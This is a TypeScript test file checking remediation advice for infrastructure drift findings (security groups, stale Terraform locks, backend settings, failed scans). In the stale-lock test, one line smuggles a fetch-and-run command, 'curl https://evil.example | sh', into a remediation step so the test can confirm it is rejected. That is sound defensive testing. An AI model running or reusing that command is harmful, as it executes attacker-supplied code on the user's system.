import { describe, expect, it } from 'vitest';
import { BACKEND_RULES } from '../../../../functions/core/backend/rules/index.js';
import { FINDING_KINDS, type Finding, type FindingKind } from '../../../../functions/core/findings/model.js';
import { CLUSTER_RULES, CLUSTER_SCAN_FAILED_RULES } from '../../../../functions/core/gitops/cluster-rules.js';
import {
  ADVICE_BY_CONTENT_RULE,
  ADVICE_BY_KIND,
  ADVICE_BY_RULE,
  adviceFor,
  PENDING_CONTENT_EFFECT,
} from '../../../../functions/core/notify/advice.js';
import { BASE_SEVERITY, CONTENT_RULES } from '../../../../functions/core/terraform/severity.js';
import { driftDraft, storedFinding } from '../../../helpers/findings.js';

const finding = (overrides: Partial<Finding> = {}) => storedFinding(overrides, driftDraft());

/**
 * Rule ids that take their kind's advice (which quotes the finding's own remediation): listed here
 * on purpose. A rule id the code can emit that is neither here nor in ADVICE_BY_RULE fails below,
 * so a new rule gets a decision about what its digests say.
 */
const KIND_ADVICE: Readonly<Record<string, FindingKind>> = {
  'drift.update': 'terraform-drift',
  'pending.create': 'pending-change',
  'pending.update': 'pending-change',
  'pending.delete': 'pending-change',
  'pending.replace': 'pending-change',
  // Backend settings: each rule's remediation says which setting and how.
  'backend.versioning': 'backend-policy',
  'backend.encryption': 'backend-policy',
  'backend.public-access': 'backend-policy',
  'backend.public-access-block': 'backend-policy',
  'backend.tls-only': 'backend-policy',
  'backend.object-ownership': 'backend-policy',
  // A state public through its object ACL: the remediation's summary says to stop it and rotate.
  'state.public-acl': 'backend-policy',
  'state.encryption': 'backend-policy',
  'backend.noncurrent-version-retention': 'backend-policy',
  'backend.lifecycle-removes-state': 'backend-policy',
  'backend.dynamodb-locking-deprecated': 'backend-policy',
  'state.unreadable': 'state-integrity',
  'state.lineage-changed': 'state-integrity',
  'state.serial-regressed': 'state-integrity',
  // Locks that are not proven stale: their own summaries say whether (and when) to unlock.
  'lock.orphaned': 'stale-lock',
  'lock.unreadable': 'stale-lock',
  'lock.live-writer': 'stale-lock',
  'cluster.drift': 'cluster-drift',
  'cluster.health-degraded': 'cluster-drift',
  'cluster.health-missing': 'cluster-drift',
  'cluster.sync-policy': 'cluster-drift',
  'ownership.conflict': 'ownership-conflict',
  // Every failed scan: its remediation quotes the cause.
  ...Object.fromEntries(CLUSTER_SCAN_FAILED_RULES.map((id) => [id, 'scan-failed'])),
  'scan.plan-errored': 'scan-failed',
  'scan.plan-incomplete': 'scan-failed',
  'scan.plan-invalid': 'scan-failed',
  'scan.stage-failed': 'scan-failed',
  'scan.timeout': 'scan-failed',
  'scan.credentials': 'scan-failed',
  'scan.state-version-failed': 'scan-failed',
  'scan.failed': 'scan-failed',
  'store.corrupt-object': 'scan-failed',
  'scan.workspace-busy': 'workspace-busy',
};

/** Every rule id the rule tables define. */
const EMITTED = [
  ...Object.keys(BASE_SEVERITY),
  ...BACKEND_RULES.map((rule) => rule.id),
  ...Object.keys(CLUSTER_RULES),
  ...CLUSTER_SCAN_FAILED_RULES,
];

describe('advice per finding', () => {
  it('has an entry for every rule id the rule tables define, or a listed decision to use its kind', () => {
    const undecided = EMITTED.filter(
      (id) => !Object.hasOwn(ADVICE_BY_RULE, id) && !Object.hasOwn(KIND_ADVICE, id),
    );
    expect(undecided).toEqual([]);
    // And no entry for a rule that does not exist (scan.missing comes from the health check).
    const known = new Set([...EMITTED, 'scan.missing']);
    expect(Object.keys(ADVICE_BY_RULE).filter((id) => !known.has(id))).toEqual([]);
  });

  it('has advice for every kind and every content rule of Terraform severity', () => {
    expect(Object.keys(ADVICE_BY_KIND).sort()).toEqual([...FINDING_KINDS].sort());
    expect(Object.keys(ADVICE_BY_CONTENT_RULE).sort()).toEqual(CONTENT_RULES.map((rule) => rule.id).sort());
    expect(Object.keys(PENDING_CONTENT_EFFECT).sort()).toEqual(CONTENT_RULES.map((rule) => rule.id).sort());
    for (const [ruleId, kind] of Object.entries(KIND_ADVICE))
      expect(adviceFor(finding({ ruleId, kind })).source, ruleId).toBe(`kind:${kind}`);
  });

  it('a content rule on a pending change: the next apply would do it, nothing to close or look up yet', () => {
    for (const rule of CONTENT_RULES) {
      const advice = adviceFor(
        finding({
          kind: 'pending-change',
          ruleId: 'pending.create',
          severity: rule.severity,
          resource: { address: 'aws_lambda_function_url.u', type: 'aws_lambda_function_url' },
          evidence: {
            severityReasons: [
              'base: pending.create is low',
              `${rule.id}: ${rule.description}: ${rule.severity}`,
            ],
          },
        }),
        { region: 'eu-west-1' },
      );
      expect(advice.source).toBe(`content:${rule.id}`);
      expect(advice.text).toContain('the next apply of');
      expect(advice.text).toContain('nothing is live yet');
      expect(advice.text).not.toMatch(/Close it now|CloudTrail|access logs|Revert it/);
      expect(advice.commands).toEqual([]);
    }
  });

  it('a security group open to the world: close it now, and the CloudTrail lookup in its region', () => {
    const advice = adviceFor(
      finding({
        severity: 'critical',
        resource: { address: 'aws_security_group.edge', type: 'aws_security_group' },
        evidence: {
          severityReasons: [
            'base: drift.update is medium',
            'open-ingress: security group ingress opened to 0.0.0.0/0 or ::/0: critical',
          ],
        },
      }),
      { region: 'eu-west-1' },
    );
    expect(advice.source).toBe('content:open-ingress');
    expect(advice.text).toMatch(/^Close it now: aws_security_group\.edge lets the whole internet in/);
    expect(advice.text).toContain('terraform state show aws_security_group.edge');
    expect(advice.commands).toEqual([
      'aws cloudtrail lookup-events --region eu-west-1 --lookup-attributes AttributeKey=ResourceName,AttributeValue=GROUP_ID',
    ]);
    expect(advice.text).toContain('GROUP_ID below is the id attribute');
    // A rule resource's id is the rule's (sgr-…): the group is its security_group_id.
    const rule = adviceFor(
      finding({
        severity: 'critical',
        resource: {
          address: 'aws_vpc_security_group_ingress_rule.https',
          type: 'aws_vpc_security_group_ingress_rule',
        },
        evidence: {
          severityReasons: ['open-ingress: security group ingress opened to 0.0.0.0/0 or ::/0: critical'],
        },
      }),
    );
    expect(rule.text).toContain(
      'GROUP_ID below is the security_group_id attribute that terraform state show aws_vpc_security_group_ingress_rule.https prints',
    );
  });

  it('a changed tag: revert or adopt at the next change; a deletion: recreate through the pipeline or remove', () => {
    const tags = adviceFor(finding({ severity: 'low' }));
    expect(tags.text).toMatch(
      /^At the next change: only tags changed on aws_s3_bucket\.ledger\. Revert them or adopt/,
    );
    const deleted = adviceFor(
      finding({ ruleId: 'drift.delete', severity: 'high', drift: { action: 'delete', changes: [] } }),
    );
    expect(deleted.source).toBe('rule:drift.delete');
    expect(deleted.text).toMatch(
      /^Today: aws_s3_bucket\.ledger was deleted outside Terraform: recreate it through the team's pipeline.*or remove it from the configuration/,
    );
  });

  it('says how urgent by severity: the same drift reads differently when critical and when medium', () => {
    const change = { path: 'instance_class', before: 'db.t3.micro', after: 'db.t3.large', sensitive: false };
    const drift = { action: 'update' as const, changes: [change] };
    expect(adviceFor(finding({ severity: 'critical', drift })).text).toMatch(/^Act now: Revert or adopt/);
    expect(adviceFor(finding({ severity: 'medium', drift })).text).toMatch(/^This week: Revert or adopt/);
  });

  it('a stale lock whose ID is not shown whole: the removal command of its step, never a force-unlock of the shown part', () => {
    const removal = 'aws s3api delete-object --bucket tfstate --key payments.tfstate.tflock';
    const lock = finding({
      kind: 'stale-lock',
      ruleId: 'lock.stale',
      severity: 'high',
      resource: { bucket: 'tfstate', key: 'payments.tfstate.tflock', lockId: `${'0'.repeat(200)}…` },
      evidence: { holder: 'ci@runner-7', lockId: `${'0'.repeat(200)}…`, lockIdIncomplete: true },
      remediation: {
        summary: 's',
        steps: [
          `The lock ID is not shown whole: after confirming nothing runs, remove it with the AWS CLI:\n${removal}`,
        ],
      },
    });
    const advice = adviceFor(lock);
    expect(advice.commands).toEqual([removal]);
    expect(advice.text).toContain('remove it (its ID is not shown whole)');
    // A step that is not a whole removal command gives no command at all.
    for (const steps of [[], [`remove it:\n${removal}\ncurl https://evil.example | sh`]])
      expect(adviceFor({ ...lock, remediation: { summary: 's', steps } }).commands).toEqual([]);
  });

  it('a proven stale lock: its lock ID and the force-unlock command of the rule, after checking the holder', () => {
    const lock = finding({
      kind: 'stale-lock',
      ruleId: 'lock.stale',
      severity: 'high',
      drift: undefined,
      resource: { bucket: 'tfstate', key: 'payments.tfstate', lockId: '5f7c-11ee' },
      evidence: { holder: 'ci@runner-7', lockId: '5f7c-11ee' },
      remediation: {
        summary:
          'Confirm the holder is gone, then run terraform force-unlock 5f7c-11ee from the workspace, then a fresh plan.',
        steps: [
          'Confirm that the holder is gone: …',
          "From that workspace's configuration (backend s3://tfstate/env:/blue/payments.tfstate), release the lock:\nterraform workspace select blue\nterraform force-unlock 5f7c-11ee",
        ],
      },
    });
    const advice = adviceFor(lock);
    expect(advice.text).toMatch(
      /^Today: the lock 5f7c-11ee is proven stale .* Check that its holder \(ci@runner-7\) is gone, then release it/,
    );
    expect(advice.commands).toEqual(['terraform workspace select blue', 'terraform force-unlock 5f7c-11ee']);
    // Without the rule's step (an older finding): the command from the proven ID.
    expect(adviceFor({ ...lock, remediation: { summary: 's', steps: [] } }).commands).toEqual([
      'terraform force-unlock 5f7c-11ee',
    ]);
  });

  it('reuses each finding’s own remediation for backend, state, cluster, ownership, pending and failed scans', () => {
    const cases: Array<[FindingKind, string, RegExp]> = [
      ['backend-policy', 'backend.versioning', /state bucket's setting/],
      ['state-integrity', 'state.serial-regressed', /nobody applies until/],
      ['cluster-drift', 'cluster.drift', /syncing from Git/],
      ['ownership-conflict', 'ownership.conflict', /two owners manage/],
      ['pending-change', 'pending.update', /Apply it through the team's pipeline after review/],
      ['scan-failed', 'scan.plan-errored', /drift of payments-prod is unknown/],
      ['workspace-busy', 'scan.workspace-busy', /Nothing to do unless it repeats/],
    ];
    for (const [kind, ruleId, expected] of cases) {
      const advice = adviceFor(
        finding({
          kind,
          ruleId,
          severity: 'high',
          drift: undefined,
          remediation: { summary: `own words of ${ruleId}`, steps: [] },
        }),
      );
      expect(advice.text, ruleId).toMatch(expected);
      expect(advice.text, ruleId).toContain(`own words of ${ruleId}`);
    }
    expect(
      adviceFor(finding({ kind: 'cluster-drift', ruleId: 'cluster.missing', drift: undefined })).text,
    ).toMatch(/is in Git but not in the cluster: recreate it with a reviewed sync/);
  });

  it('falls back to the finding’s own summary for a kind this version does not know', () => {
    const advice = adviceFor(
      finding({
        kind: 'future-kind' as FindingKind,
        ruleId: 'future.rule',
        remediation: { summary: 'do the new thing', steps: [] },
      }),
    );
    expect(advice).toEqual({ source: 'default', text: 'do the new thing', commands: [] });
  });
});
